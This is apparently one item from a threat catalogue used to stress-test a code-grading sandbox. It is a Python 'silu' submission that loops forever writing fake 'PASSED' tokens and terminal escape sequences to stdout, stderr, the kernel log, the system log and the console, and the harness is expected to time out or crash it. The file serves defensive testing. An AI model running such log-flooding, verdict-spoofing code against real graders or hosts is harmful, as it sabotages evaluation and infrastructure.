# number: 48
# source: threat catalogue G
# tries: prints without end, to both outputs and to the kernel's and the system's logs
# problem: silu
# expect: timed_out crashed
# naive: exempt: it is after the machine, not after a verdict
import os


def run(x):
    fds = [1, 2]
    for path in ("/dev/kmsg", "/dev/log", "/dev/console", "/dev/tty", "/proc/self/comm"):
        try:
            fds.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
    while True:
        for fd in fds:
            try:
                os.write(fd, b"@TOKEN@ PASSED \x1b[2J\x1b]0;owned\x07" * 4000)
            except OSError:
                pass
